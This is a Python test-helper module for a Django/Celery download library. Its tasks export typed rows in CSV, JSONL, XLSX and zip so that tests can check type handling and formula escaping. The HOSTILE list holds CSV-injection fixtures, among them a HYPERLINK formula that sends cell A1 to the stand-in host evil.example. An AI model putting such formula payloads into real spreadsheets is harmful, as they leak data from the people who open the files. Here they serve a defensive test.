"""Tasks that save downloads in every format (tests/test_formats.py runs them in a real worker)."""

import datetime
import uuid
from decimal import Decimal

from celery import shared_task
from django.utils import timezone

from async_downloads import writers
from async_downloads.cache import save_download
from async_downloads.shortcuts import queryset_export
from tests.testapp.models import Item

TYPED_HEADER = ["id", "name", "delta", "price", "created", "day", "paid", "ref", "note", "code"]
# What a crafted customer name looks like (OWASP, "CSV Injection").
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click me")', "+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
START = datetime.datetime(2026, 3, 1, 8, 30, tzinfo=datetime.UTC)


def typed_rows(count):
    """The header and ``count`` rows of every type a writer knows, hostile strings and negative numbers included."""
    yield TYPED_HEADER
    for n in range(count):
        yield [
            n,
            f"Customer {n} ünïcødé",
            -n,  # negative numbers stay numbers
            (Decimal(n) / 4).quantize(Decimal("0.01")),
            START + datetime.timedelta(hours=n, seconds=n),
            datetime.date(2026, 1, 1) + datetime.timedelta(days=n),
            n % 2 == 0,
            uuid.UUID(int=n),
            HOSTILE[n % len(HOSTILE)] if n % 3 else None,
            f"{n:05d}",  # digits, but a string: stays a string
        ]


@shared_task
def typed_export(download_key, rows=20, format=None, escape_formulas=None, sheet_rows=None, time_zone=None):
    """Save ``typed_rows(rows)``; ``sheet_rows`` lowers the rows per XLSX sheet, ``time_zone`` is made current."""
    limit = writers.XLSX_MAX_ROWS
    if sheet_rows:
        writers.XLSX_MAX_ROWS = sheet_rows
    try:
        with timezone.override(time_zone):
            save_download(download_key, typed_rows(rows), format=format, escape_formulas=escape_formulas)
    finally:
        writers.XLSX_MAX_ROWS = limit


@shared_task
def zip_export(download_key, rows=10):
    """A zip of the typed rows in each format, a file and a text, members made one at a time."""

    def members():
        yield "rows.csv", typed_rows(rows)
        yield "rows.jsonl", typed_rows(rows)
        yield writers.Member("sheets/rows.xlsx", typed_rows(rows))
        yield "rows.txt", typed_rows(rows), "jsonl"
        with open(__file__, "rb") as source:
            yield "format_tasks.py", source
        yield "README.txt", "Rows in three formats.\n"

    save_download(download_key, members=members())


@shared_task
def export_items_as(download_key, format=None):
    """``queryset_export`` of the items, in ``format`` or the one the file name says."""
    queryset = Item.objects.order_by("pk")
    queryset_export(download_key, ["id", "name", "quantity", "price"], queryset,
                    lambda item: [item.pk, item.name, item.quantity, item.price], format)
